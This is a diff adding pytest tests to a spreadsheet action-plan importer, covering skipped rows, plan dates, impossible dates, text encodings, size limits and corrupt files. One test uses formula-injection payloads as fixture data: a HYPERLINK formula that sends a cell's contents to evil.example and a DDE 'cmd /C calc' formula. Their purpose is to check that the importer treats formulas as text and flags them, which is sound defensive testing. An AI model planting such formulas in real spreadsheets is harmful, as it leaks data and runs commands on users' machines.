@@ -2,9 +2,10 @@
 
 from __future__ import annotations
 
+import os
 import zipfile
 from collections.abc import Callable, Sequence
-from datetime import date, datetime
+from datetime import UTC, date, datetime
 from io import BytesIO
 from pathlib import Path
 from typing import Any
@@ -17,6 +18,7 @@ from reportlab.pdfgen.canvas import Canvas
 
 from importers.action_plan import NO_HEADER, Column, column_of, owner_people, read_action_plan
 from importers.plan_dates import parse_due
+from importers.plan_limits import MAX_CELL_CHARS, MAX_COLUMNS, MAX_ROWS, PlanLimitError
 from importers.plan_model import ActionPlan, PlanAction, SkippedRow, SkippedSheet
 from importers.plan_status import read_status
 from peergraph.core.errors import InputFileError
@@ -188,7 +190,9 @@ def test_recommendation_heading_rows_and_section_rows_are_skipped_with_reasons(t
         SkippedRow(sheet="Action plan", row=2, reason="section heading: Theme 1: Working with people"),
         SkippedRow(sheet="Action plan", row=3, reason="the recommendation heading for the actions below"),
         SkippedRow(sheet="Action plan", row=6, reason="the header row again"),
-        SkippedRow(sheet="Action plan", row=8, reason="no action or recommendation text: PSW"),
+        SkippedRow(
+            sheet="Action plan", row=8, reason="no action text, though it fills Owner: PSW", filled=["Owner"]
+        ),
     ]
 
 
@@ -655,6 +659,19 @@ def write_truncated_xlsx(path: Path) -> None:
     path.write_bytes(buffer.getvalue()[:600])
 
 
+def write_corrupt_deflate_xlsx(path: Path) -> None:
+    buffer = BytesIO()
+    workbook = Workbook()
+    add_rows(workbook.active, [["Action", "Owner"], ["Do it", "DASS"]])
+    workbook.save(buffer)
+    data = bytearray(buffer.getvalue())
+    with zipfile.ZipFile(BytesIO(bytes(data))) as archive:
+        entry = archive.getinfo("xl/worksheets/sheet1.xml")
+    start = entry.header_offset + 30 + len(entry.filename.encode()) + len(entry.extra)
+    data[start : start + 4] = b"\xff\xff\xff\xff"  # the compressed stream itself is broken (zlib.error)
+    path.write_bytes(bytes(data))
+
+
 def write_encrypted_xlsx(path: Path) -> None:
     ooxml = pytest.importorskip("msoffcrypto.format.ooxml")
     plain = BytesIO()
@@ -678,6 +695,7 @@ def write_encrypted_xlsx(path: Path) -> None:
         ("template.xlsx", write_header_without_actions, "no actions below the header row on Sheet"),
         ("archive.xlsx", write_zip_not_workbook, "a zip archive that is not an Excel workbook"),
         ("cut.xlsx", write_truncated_xlsx, "not an Excel workbook (damaged zip archive"),
+        ("inflate.xlsx", write_corrupt_deflate_xlsx, "not an Excel workbook (damaged zip archive"),
         ("locked.xlsx", write_encrypted_xlsx, "the workbook is password-protected"),
     ],
 )
@@ -703,3 +721,269 @@ def test_plan_round_trips_as_json(tmp_path: Path) -> None:
     plan = read_action_plan(save(workbook, tmp_path / "plan.xlsx"), MAX_BYTES)
 
     assert ActionPlan.model_validate_json(plan.model_dump_json()) == plan
+
+
+# --- rows that are no action, as-of dates, formulas, limits, encodings, bad cells -----------------
+
+
+def test_rows_with_no_action_text_are_skipped_and_those_filling_other_cells_are_named(tmp_path: Path) -> None:
+    workbook = Workbook()
+    sheet = workbook.active
+    sheet.title = "Action plan"
+    rows: list[list[Any]] = [
+        ["Ref", "Recommendation", "Action", "Lead officer", "Status", "peergraph link key"]
+    ]
+    rows += [
+        [f"R{number}", f"Recommendation {number}", None, None, None, f"rec-{number}"]
+        for number in range(1, 8)
+    ]
+    rows[1][2:5] = ["Publish the strategy", "DASS", "On track"]
+    rows[4][2:5] = ["Recruit two OTs", "Head of OT", "Not started"]
+    rows[6][3:5] = ["PSW", "At risk"]  # an owner and a status, but the action was never written
+    add_rows(sheet, rows)
+
+    plan = read_action_plan(save(workbook, tmp_path / "plan.xlsx"), MAX_BYTES)
+
+    assert [(item.row, item.action_text) for item in plan.actions] == [
+        (2, "Publish the strategy"),
+        (5, "Recruit two OTs"),
+    ]
+    assert [(item.row, item.filled) for item in plan.skipped_rows] == [
+        (3, []),
+        (4, []),
+        (6, []),
+        (7, ["Lead officer", "Status"]),
+        (8, []),
+    ]
+    assert plan.skipped_rows[0].reason == "no action text"
+    assert plan.skipped_rows[3].reason.startswith("no action text, though it fills Lead officer, Status: R6")
+
+
+@pytest.mark.parametrize(
+    ("above_header", "as_of", "detail"),
+    [
+        (
+            [["Westmoor action plan"], ["As at 30 June 2025"]],
+            date(2025, 6, 30),
+            "cell A2: As at 30 June 2025",
+        ),
+        (
+            [["Plan", None, "Last updated:", datetime(2025, 10, 10)]],
+            date(2025, 10, 10),
+            "cell C1: Last updated:",
+        ),
+        ([["Action plan – position as at 31/03/2026"]], date(2026, 3, 31), "cell A1"),
+        ([["Date of update", "June 2025"]], date(2025, 6, 30), "cell A1: Date of update June 2025"),
+    ],
+)
+def test_the_plan_date_from_the_rows_above_the_header(
+    tmp_path: Path, above_header: list[list[Any]], as_of: date, detail: str
+) -> None:
+    workbook = Workbook()
+    add_rows(workbook.active, [*above_header, ["Action", "Owner"], ["Do it", "DASS"]])
+
+    plan = read_action_plan(save(workbook, tmp_path / "plan.xlsx"), MAX_BYTES)
+
+    assert (plan.as_of, plan.as_of_source) == (as_of, "sheet")
+    assert detail in (plan.as_of_detail or "")
+
+
+def test_the_plan_date_from_a_date_of_update_column_then_the_file_time_and_a_given_date_beats_both(
+    tmp_path: Path,
+) -> None:
+    dated = tmp_path / "dated.csv"
+    dated.write_text(
+        "Action,Date of update\nDo it,20/06/2025\nDo more,21/06/2025\nLater,\n", encoding="utf-8"
+    )
+    undated = tmp_path / "undated.csv"
+    undated.write_text("Action,Owner\nDo it,DASS\n", encoding="utf-8")
+    os.utime(undated, (datetime(2025, 4, 1, 9, 30, tzinfo=UTC).timestamp(),) * 2)
+
+    from_column = read_action_plan(dated, MAX_BYTES)
+    from_file = read_action_plan(undated, MAX_BYTES)
+    given = read_action_plan(dated, MAX_BYTES, as_of=date(2025, 7, 1))
+
+    assert (from_column.as_of, from_column.as_of_source) == (date(2025, 6, 21), "column")
+    assert [item.updated_on for item in from_column.actions] == [date(2025, 6, 20), date(2025, 6, 21), None]
+    assert (from_file.as_of, from_file.as_of_source) == (datetime(2025, 4, 1, 9, 30, tzinfo=UTC), "file")
+    assert (given.as_of, given.as_of_source) == (date(2025, 7, 1), "given")
+
+
+@pytest.mark.parametrize(
+    ("text", "problem"),
+    [
+        ("Q5 2024/25", "no such quarter"),
+        ("Q0 2025", "no such quarter"),
+        ("31/02/2025", "no such day"),
+        ("30th February 2026", "no such day"),
+        ("13/2025", "no such month"),
+        ("Q3 2024/26", "no such financial year"),
+        ("June 2025, revised to 31/02/2026", "no such day"),
+    ],
+)
+def test_impossible_dates_are_no_date_and_say_why(text: str, problem: str) -> None:
+    parsed = parse_due(text)
+
+    assert (parsed.on, parsed.precision) == (None, None)
+    assert parsed.problem is not None and problem in parsed.problem
+
+
+def test_a_bad_cell_is_reported_by_row_and_column_and_costs_only_itself(tmp_path: Path) -> None:
+    path = tmp_path / "plan.csv"
+    path.write_text(
+        "Ref,Action,Lead,Target date\n"
+        "R1,Publish the\x00 strategy,DASS,Q5 2024/25\n"
+        "R2,Recruit OTs,Head of OT,31/02/2025\n"
+        "R3,Train staff,PSW,Q4 2024/25\n",
+        encoding="utf-8",
+    )
+
+    plan = read_action_plan(path, MAX_BYTES)
+
+    assert [(item.action_text, item.due_date, item.due_text) for item in plan.actions] == [
+        ("Publish the strategy", None, "Q5 2024/25"),
+        ("Recruit OTs", None, "31/02/2025"),
+        ("Train staff", date(2025, 3, 31), "Q4 2024/25"),
+    ]
+    assert [
+        (item.row, item.column, item.header, item.reason.split(":")[0]) for item in plan.cell_problems
+    ] == [
+        (2, "B", "Action", "removed 1 control character(s) (NUL)"),
+        (2, "D", "Target date", "no such quarter (Q1-Q4)"),
+        (3, "D", "Target date", "no such day (dates read day/month/year)"),
+    ]
+
+
+PLAN_TEXT = "Ref\tAction\tLead\nR1\tReview the £350 carers’ payment\tHead of Service\n"
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        "\ufeff".encode("utf-16-le") + PLAN_TEXT.encode("utf-16-le"),  # Excel's "Unicode text"
+        "\ufeff".encode("utf-16-be") + PLAN_TEXT.encode("utf-16-be"),
+        PLAN_TEXT.encode("utf-16-le"),  # no byte-order mark
+        "\ufeff".encode() + PLAN_TEXT.encode(),
+        "\ufeff".encode("utf-32-le") + PLAN_TEXT.encode("utf-32-le"),
+    ],
+    ids=["utf-16-le", "utf-16-be", "utf-16-le-no-bom", "utf-8-bom", "utf-32-le"],
+)
+def test_unicode_text_exports_read(tmp_path: Path, data: bytes) -> None:
+    path = tmp_path / "plan.txt"
+    path.write_bytes(data)
+
+    plan = read_action_plan(path, MAX_BYTES)
+
+    assert [(item.ref, item.action_text, item.owner_text) for item in plan.actions] == [
+        ("R1", "Review the £350 carers’ payment", "Head of Service")
+    ]
+
+
+def _with_saved_value(path: Path, cell: str, value: str) -> None:
+    """Give a formula cell openpyxl wrote the saved value Excel would have written."""
+    with zipfile.ZipFile(path) as archive:
+        parts = {name: archive.read(name) for name in archive.namelist()}
+    sheet = parts["xl/worksheets/sheet1.xml"].decode()
+    start = sheet.index(f'<c r="{cell}"')
+    end = sheet.index("</c>", start)
+    formula = sheet[sheet.index("<f>", start) : sheet.index("</f>", start) + 4]
+    sheet = sheet[:start] + f'<c r="{cell}" t="str">{formula}<v>{value}</v>' + sheet[end:]
+    parts["xl/worksheets/sheet1.xml"] = sheet.encode()
+    with zipfile.ZipFile(path, "w") as archive:
+        for name, data in parts.items():
+            archive.writestr(name, data)
+
+
+def test_cells_are_read_as_values_and_a_formula_with_no_saved_value_as_its_text(tmp_path: Path) -> None:
+    workbook = Workbook()
+    sheet = workbook.active
+    sheet.title = "Action plan"
+    add_rows(
+        sheet,
+        [
+            ["Action", "Lead", "Progress"],
+            ['=HYPERLINK("http://evil.example/?x="&A1,"click me")', "DASS", "=cmd|' /C calc'!A0"],
+            ["Train staff", '=CONCAT("P","SW")', "Started"],
+        ],
+    )
+    path = save(workbook, tmp_path / "plan.xlsx")
+    _with_saved_value(path, "B3", "PSW")
+
+    plan = read_action_plan(path, MAX_BYTES)
+
+    assert [(item.action_text, item.owner_text, item.progress) for item in plan.actions] == [
+        ('=HYPERLINK("http://evil.example/?x="&A1,"click me")', "DASS", "=cmd|' /C calc'!A0"),
+        ("Train staff", "PSW", "Started"),
+    ]
+    assert [(item.row, item.column) for item in plan.cell_problems] == [(2, "A"), (2, "C")]
+    assert all("formula with no saved value" in item.reason for item in plan.cell_problems)
+
+
+def write_too_many_rows(path: Path) -> None:
+    path.write_text("Action,Owner\n" + "Do it,DASS\n" * MAX_ROWS, encoding="utf-8")
+
+
+def write_too_many_columns(path: Path) -> None:
+    workbook = Workbook()
+    add_rows(workbook.active, [["Action", "Owner"], ["Do it", "DASS"]])
+    workbook.active.cell(2, MAX_COLUMNS + 1, "a stray note")
+    workbook.save(path)
+
+
+def write_huge_cell_xlsx(path: Path) -> None:
+    workbook = Workbook()
+    add_rows(workbook.active, [["Action", "Owner"], ["x" * MAX_CELL_CHARS, "DASS"]])
+    workbook.save(path)  # openpyxl cuts longer cells to Excel's limit; other writers need not
+    with zipfile.ZipFile(path) as archive:
+        parts = {name: archive.read(name) for name in archive.namelist()}
+    sheet = parts["xl/worksheets/sheet1.xml"].decode()
+    parts["xl/worksheets/sheet1.xml"] = sheet.replace(
+        "x" * MAX_CELL_CHARS, "x" * (MAX_CELL_CHARS + 1)
+    ).encode()
+    with zipfile.ZipFile(path, "w") as archive:
+        for name, data in parts.items():
+            archive.writestr(name, data)
+
+
+def write_huge_cell_csv(path: Path) -> None:
+    path.write_text("Action,Owner\n" + "x" * (MAX_CELL_CHARS + 1) + ",DASS\n", encoding="utf-8")
+
+
+def write_giant_field_csv(path: Path) -> None:
+    path.write_text('Action,Owner\n"' + "x" * 200_000 + '",DASS\n', encoding="utf-8")
+
+
+@pytest.mark.parametrize(
+    ("name", "write", "limit"),
+    [
+        ("long.csv", write_too_many_rows, f"fills {MAX_ROWS + 1:,} rows, over the {MAX_ROWS:,}-row limit"),
+        ("wide.xlsx", write_too_many_columns, f"fills column CW (101), over the {MAX_COLUMNS}-column limit"),
+        ("huge.xlsx", write_huge_cell_xlsx, f"cell A2 holds 32,768 characters, over the {MAX_CELL_CHARS:,}"),
+        ("huge.csv", write_huge_cell_csv, "cell A2 holds 32,768 characters, over the 32,767-character limit"),
+        ("giant.csv", write_giant_field_csv, "record 2 holds a field over the 32,767-character limit"),
+    ],
+)
+def test_a_plan_over_a_limit_is_refused_whole_in_one_line(
+    tmp_path: Path, name: str, write: Callable[[Path], None], limit: str
+) -> None:
+    path = tmp_path / name
+    write(path)
+
+    with pytest.raises(PlanLimitError) as raised:
+        read_action_plan(path, MAX_BYTES)
+
+    message = str(raised.value)
+    assert message.startswith(f"{name}: ") and limit in message and "\n" not in message
+
+
+def test_a_plan_past_the_old_20000_row_cut_is_read_whole(tmp_path: Path) -> None:
+    path = tmp_path / "long.csv"
+    path.write_text("Action,Owner\n" + "".join(f"Action {n},DASS\n" for n in range(20_005)), encoding="utf-8")
+
+    plan = read_action_plan(path, MAX_BYTES)
+
+    assert (len(plan.actions), plan.actions[-1].action_text, plan.skipped_rows) == (
+        20_005,
+        "Action 20004",
+        [],
+    )
